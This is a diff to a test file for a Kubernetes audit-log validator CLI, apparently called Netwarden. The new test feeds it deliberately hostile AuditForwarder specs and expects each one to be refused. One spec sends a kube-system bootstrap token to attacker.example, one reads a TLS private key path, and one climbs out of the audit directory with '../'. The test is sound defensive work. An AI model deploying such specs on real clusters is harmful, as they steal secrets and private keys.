@@ -45,7 +45,7 @@ describe('netwarden validate', () => {
 
   it('accepts the examples and says so in one summary line', async () => {
     const { code, lines } = await run([join(repo, 'examples')]);
-    expect(lines).to.deep.equal(['3 files, 3 Netwarden objects checked (0 other objects passed over): valid']);
+    expect(lines).to.deep.equal(['4 files, 3 Netwarden objects checked (1 other object passed over): valid']);
     expect(code).to.equal(0);
   });
 
@@ -81,6 +81,27 @@ describe('netwarden validate', () => {
       `${join(dir, 'nested', 'b.json')}:doc 1: AuditForwarder/nosink: spec.sink: Required value`,
       `${join(dir, 'nested', 'deeper', 'c.yaml')}:doc 1: PacketCapture/backwards: spec.endTime: endTime must be after startTime`,
       '3 files, 3 Netwarden objects checked (0 other objects passed over): 2 errors',
+    ]);
+    expect(code).to.equal(1);
+  });
+
+  it("refuses what the installation's admission policy refuses: other namespaces' Secrets, http:// sinks, paths outside the audit log directory", async () => {
+    const file = join(dir, 'attacks.yaml');
+    const forwarder = (name: string, spec: string) => `apiVersion: netwarden.io/v1alpha1\nkind: AuditForwarder\nmetadata: {name: ${name}}\nspec: ${spec}\n`;
+    writeFileSync(file, [
+      forwarder('steal-secret', '{sink: {webhook: {url: "https://attacker.example/in", bearerTokenSecretRef: {namespace: kube-system, name: bootstrap-token-abc, key: token-secret}}}}'),
+      forwarder('clear-text', '{sink: {webhook: {url: "http://collector.example/in"}}}'),
+      forwarder('read-key', '{source: {path: /etc/netwarden/tls/tls.key}, sink: {file: {directory: /var/lib/netwarden/out}}}'),
+      forwarder('climb', '{source: {path: /var/log/kubernetes/audit/../../pods/x.log}, sink: {file: {directory: /var/lib/netwarden/out}}}'),
+      forwarder('fine', '{source: {path: /var/log/kubernetes/audit/audit.log}, sink: {webhook: {url: "http://falco.falco:9765/k8s-audit", allowInsecure: true, bearerTokenSecretRef: {name: hook, key: token}}}}'),
+    ].join('---\n'));
+    const { code, lines } = await run([file]);
+    expect(lines).to.deep.equal([
+      `${file}:doc 1: AuditForwarder/steal-secret: spec.sink.webhook.bearerTokenSecretRef.namespace: Forbidden: Secrets are read only from Netwarden's own namespace netwarden-system; leave namespace out or set it to netwarden-system`,
+      `${file}:doc 2: AuditForwarder/clear-text: spec.sink.webhook.url: Forbidden: http:// sends the audit log and any bearer token or headers in clear text; use https://, or set spec.sink.webhook.allowInsecure: true for a receiver on a trusted network`,
+      `${file}:doc 3: AuditForwarder/read-key: spec.source.path: Forbidden: the agents read audit logs only under /var/log/kubernetes/audit (their --audit-log-dir), and the path may have no . or .. segments`,
+      `${file}:doc 4: AuditForwarder/climb: spec.source.path: Forbidden: the agents read audit logs only under /var/log/kubernetes/audit (their --audit-log-dir), and the path may have no . or .. segments`,
+      '1 file, 5 Netwarden objects checked (0 other objects passed over): 4 errors',
     ]);
     expect(code).to.equal(1);
   });
